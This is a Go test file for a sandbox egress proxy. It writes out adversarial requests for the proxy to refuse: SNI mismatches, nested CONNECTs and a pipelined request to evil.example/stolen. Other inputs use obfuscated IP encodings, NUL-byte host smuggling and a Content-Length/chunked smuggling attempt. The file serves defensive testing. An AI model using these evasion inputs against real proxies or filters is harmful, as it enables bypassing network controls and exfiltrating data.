package main_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// asked are requests of a command, byte for byte, and what becomes of each. The first
// ones are the twins. private.example and each numbered name have guarded addresses.
func asked(t *testing.T) (names []string, requests map[string]string, want map[string]string) {
	t.Helper()
	requests, want = map[string]string{}, map[string]string{}
	add := func(name, request, verdict string) {
		names = append(names, name)
		requests[name], want[name] = request, verdict
	}
	connect := func(target string) string { return "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n" }
	good, other, none := hello(t, "ok.example"), hello(t, "front.example"), hello(t, "")
	tls := func(name string, first []byte, verdict string) {
		add(name, connect("ok.example:443")+string(first), verdict)
	}
	tls("tls", good, "ok")
	tls("tls-split", split(good, 1), "ok")
	tls("tls-grease", grease(t, good), "ok")
	add("clear", "GET http://ok.example/x HTTP/1.1\r\nHost: ok.example\r\n\r\n", "ok")
	tls("sni-other", other, "closed")
	tls("sni-none", none, "closed")
	tls("sni-other-split", split(other, 1), "closed")
	tls("sni-other-grease", grease(t, other), "closed")
	tls("sni-two", twoNames(t, good), "closed")
	tls("no-tls", []byte("SSH-2.0-x\r\n"), "closed")
	tls("connect-inside", []byte(connect("evil.example:443")), "closed")
	for i, target := range []string{"ok.example.:443", "ok.example%00.evil.example:443", "10.0.0.5:443", "2852039166:443", "0xa9fea9fe:443", "0251.0376.0251.0376:443",
		"[::1]:443", "[::ffff:10.0.0.5]:443", "[fe80::1%25lo]:443", "[fd7a:115c:a1e0::5]:443", "[64:ff9b::a00:5]:443", "\xc3\xb6k.example:443", "user@ok.example:443", "ok.example:0443"} {
		add(fmt.Sprint("name", i), connect(target), "bad_name")
	}
	add("name-nul", connect("ok.example\x00.evil.example:443"), "bad_request")
	add("not-granted", connect("evil.example:443"), "not_granted")
	add("above", connect("granted.example:443"), "above_ceiling")
	for i, address := range append([]string{"127.0.0.1", "::1", "::ffff:10.0.0.5", "CNAME private.example"}, guarded...) {
		world.dns.Set(fmt.Sprintf("n%d.private.example", i), address)
		add(fmt.Sprint("address", i), connect(fmt.Sprintf("n%d.private.example:443", i)), "not_public")
	}
	add("foreign-host", "GET http://ok.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", "bad_request")
	add("two-lengths", "POST http://ok.example/ HTTP/1.1\r\nHost: ok.example\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "bad_request")
	add("line-feeds", "GET http://ok.example/ HTTP/1.1\nHost: ok.example\n\n", "bad_request")
	add("pipelined", "GET http://ok.example/x HTTP/1.1\r\nHost: ok.example\r\n\r\nGET http://evil.example/stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n", "ok")
	return names, requests, want
}

const (
	askCeiling = "ok.example,http://ok.example,front.example,*.private.example"
	askRules   = "ok.example,http://ok.example,front.example,*.private.example,granted.example"
)

// attack writes the requests into a workspace, lets a command send them, and compares.
func attack(t *testing.T, workspace string, e *egress, run func(line string) result) {
	t.Helper()
	world.dns.Set("ok.example", "93.184.215.10")
	world.dns.Set("private.example", "10.0.0.5")
	names, requests, want := asked(t)
	script, err := os.ReadFile("testdata/ask.pl")
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(workspace, "ask.pl"), script, 0o644)
	for name, bytes := range requests {
		os.WriteFile(filepath.Join(workspace, name), []byte(bytes), 0o644)
	}
	world.dns.Queries()
	forget()
	r := run("perl ask.pl " + strings.Join(names, " "))
	got := map[string]string{}
	for line := range strings.Lines(r.Stdout) {
		name, verdict, _ := strings.Cut(strings.TrimSpace(line), " ")
		got[name] = verdict
	}
	for _, name := range names {
		if got[name] != want[name] {
			t.Errorf("%s: %q, want %q", name, got[name], want[name])
		}
	}
	if t.Failed() {
		t.Logf("%+v", r)
	}
	for _, q := range world.dns.Queries() {
		if q != "ok.example" && !strings.HasSuffix(q, "private.example") {
			t.Errorf("a DNS query for %s", q)
		}
	}
	quiet(t)
	for _, address := range []string{"93.184.215.11:443", "93.184.215.11:80"} {
		if got := world.heard(address); len(got) != 0 {
			t.Errorf("%s received %q", address, got)
		}
	}
	if got := fmt.Sprintf("%q", world.heard("93.184.215.10:80")); strings.Contains(got, "stolen") || strings.Contains(got, "evil") {
		t.Errorf("the host received %s", got)
	}
	verdicts := map[string]int{}
	awaitThat(t, "each connection is on the record", func() bool {
		clear(verdicts)
		n := 0
		for _, r := range e.records() {
			if r["kind"] == "end" || r["kind"] == "refused" {
				verdicts[fmt.Sprint(r["verdict"])]++
				n++
			}
		}
		return n >= len(names)
	})
	if verdicts["sni_mismatch"] != 4 || verdicts["no_tls"] != 3 || verdicts["ok"] != 5 {
		t.Errorf("recorded: %v", verdicts)
	}
}

// What a command can say to its proxy, from the bare machine, as root and as another
// uid: names, addresses, TLS and clear text in every odd form reach nobody.
func TestAttacksFromCommands(t *testing.T) {
	if !rootHere(t) {
		return
	}
	for name, uid := range accounts {
		t.Run(name, func(t *testing.T) {
			s := startSandbox(t, uid, askCeiling)
			c := s.connect(as("one", strings.Split(askRules, ",")...))
			attack(t, s.workspace, s.egress, func(line string) result { return s.run(c, line) })
		})
	}
}

// The same from a locked container.
func TestAttacksFromContainer(t *testing.T) {
	if !rootHere(t) {
		return
	}
	if out, err := exec.Command("docker", "image", "inspect", "--format", "{{.Id}}", image).CombinedOutput(); err != nil {
		missing(t, fmt.Sprintf("Docker with %s: %s", image, out))
		return
	}
	dir, e := containerEgress(t, askCeiling)
	b, said := lockedBox(t, e, filepath.Join(dir, "workspace"), "--security-opt", "seccomp="+seccompProfile(t), "--env", "MCP_EGRESS="+askRules)
	if b.id == "" {
		t.Fatal(said)
	}
	attack(t, filepath.Join(dir, "workspace"), e, b.run)
}
